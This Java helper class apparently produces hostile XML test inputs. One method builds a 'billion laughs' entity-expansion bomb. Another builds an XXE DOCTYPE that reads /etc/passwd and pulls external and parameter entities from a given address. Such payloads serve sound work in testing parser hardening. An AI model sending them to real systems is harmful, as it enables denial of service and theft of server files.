package org.candour.plans.hostile;

/** Entities that are ten of another, nine times over. */
final class Laughs {

    private Laughs() {}

    static String doctype(String root) {
        StringBuilder text = new StringBuilder("<!DOCTYPE " + root + " [<!ENTITY l0 \"laugh\">");
        for (int i = 1; i < 10; i++) {
            text.append("<!ENTITY l")
                    .append(i)
                    .append(" \"")
                    .append(("&l" + (i - 1) + ";").repeat(10))
                    .append("\">");
        }
        return text.append("]>").toString();
    }

    /** Whose entities are the system's passwords and an answer of the server. */
    static String thieving(String root, String address) {
        return "<!DOCTYPE " + root + " [<!ENTITY l9 SYSTEM \"file:///etc/passwd\"><!ENTITY b SYSTEM \"" + address
                + "/entity\"><!ENTITY % p SYSTEM \"" + address + "/parameter\">%p;]>";
    }
}
